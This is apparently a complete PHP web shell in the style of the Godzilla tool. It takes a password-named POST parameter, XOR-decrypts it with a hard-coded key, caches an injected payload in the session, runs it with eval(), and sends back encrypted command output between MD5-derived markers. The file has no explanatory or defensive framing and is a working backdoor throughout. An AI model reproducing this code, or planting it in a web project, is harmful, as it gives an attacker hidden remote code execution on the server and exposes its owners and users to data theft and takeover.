<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function xx_cipher($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $c = $K[$i+1&15];
        $D[$i] = $D[$i]^$c;
    }
    return $D;
}
$pass='token';
$payloadName='payload';
$key='a8f5f167f44f4964';
if (isset($_POST[$pass])){
    $data=xx_cipher(base64_decode($_POST[$pass]),$key);
    if (isset($_SESSION[$payloadName])){
        $payload=xx_cipher($_SESSION[$payloadName],$key);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload=xx_cipher($payload,$key);
        }
		eval($payload);
        echo substr(md5($pass.$key),0,16);
        echo base64_encode(xx_cipher(@run($data),$key));
        echo substr(md5($pass.$key),16);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=xx_cipher($data,$key);
        }
    }
}
